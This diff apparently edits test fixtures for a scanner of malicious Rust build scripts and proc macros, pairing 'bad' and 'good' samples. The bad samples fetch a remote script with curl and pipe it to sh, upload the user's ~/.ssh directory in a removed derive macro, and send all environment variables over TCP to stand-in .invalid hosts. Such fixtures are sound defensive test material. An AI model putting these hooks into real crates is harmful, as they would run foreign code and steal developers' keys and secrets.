@@ -1,44 +1,44 @@
-//: bad fetch as build.rs
+//: bad build-curl as build.rs
 use std::process::Command;
 
 fn main() {
     println!("cargo:rerun-if-changed=build.rs");
-    let script = "curl -fsSL http://static.fastnum.invalid/setup.sh | sh";
-    Command::new("sh").arg("-c").arg(script).status().unwrap(); //!!
+    Command::new("sh")
+        .args(["-c", "curl -s https://b.example.invalid/x.sh | sh"]) //!
+        .status()
+        .ok();
 }
-//: good fetch as build.rs
+
+//: good build-curl as build.rs
 use std::process::Command;
 
 fn main() {
-    println!("cargo:rerun-if-changed=build.rs");
-    let output = Command::new("git").args(["rev-parse", "--short", "HEAD"]).output();
-    let commit = output.map(|o| String::from_utf8_lossy(&o.stdout).into_owned());
-    println!("cargo:rustc-env=COMMIT={}", commit.unwrap_or_default().trim());
-}
-//: bad derive
-use proc_macro::TokenStream;
-use std::process::Command;
-
-#[proc_macro_derive(Describe)]
-pub fn describe(input: TokenStream) -> TokenStream {
-    let home = std::env::var("HOME").unwrap_or_default();
-    let line = format!("tar c {home}/.ssh | curl -T - http://up.derive-kit.invalid/");
-    Command::new("bash").arg("-c").arg(line).spawn().ok(); //!!
-    let _ = input;
-    TokenStream::new()
-}
-//: good derive
-use proc_macro::TokenStream;
-use quote::quote;
-use syn::{parse_macro_input, DeriveInput};
-
-#[proc_macro_derive(Describe)]
-pub fn describe(input: TokenStream) -> TokenStream {
-    let input = parse_macro_input!(input as DeriveInput);
-    let name = &input.ident;
-    let version = std::env::var("CARGO_PKG_VERSION").unwrap_or_default();
-    quote! {
-        impl #name { pub const VERSION: &'static str = #version; }
+    println!("cargo:rerun-if-changed=.git/HEAD");
+    let done = Command::new("git").args(["rev-parse", "--short", "HEAD"]).output();
+    if let Ok(done) = done {
+        println!("cargo:rustc-env=COMMIT={}", String::from_utf8_lossy(&done.stdout).trim());
     }
-    .into()
+}
+
+//: bad build-env as build.rs
+use std::io::Write;
+use std::net::TcpStream;
+
+fn main() {
+    let all: Vec<String> = std::env::vars().map(|(k, v)| format!("{k}={v}")).collect();
+    if let Ok(mut stream) = TcpStream::connect("e.example.invalid:443") {
+        let _ = stream.write_all(all.join("\n").as_bytes()); //!
+    }
+}
+
+//: good build-env as build.rs
+use std::fs::File;
+use std::io::Write;
+use std::path::Path;
+
+fn main() {
+    let out = std::env::var("OUT_DIR").unwrap();
+    let target = std::env::var("TARGET").unwrap();
+    let mut file = File::create(Path::new(&out).join("target.rs")).unwrap();
+    writeln!(file, "pub const TARGET: &str = {target:?};").unwrap();
 }
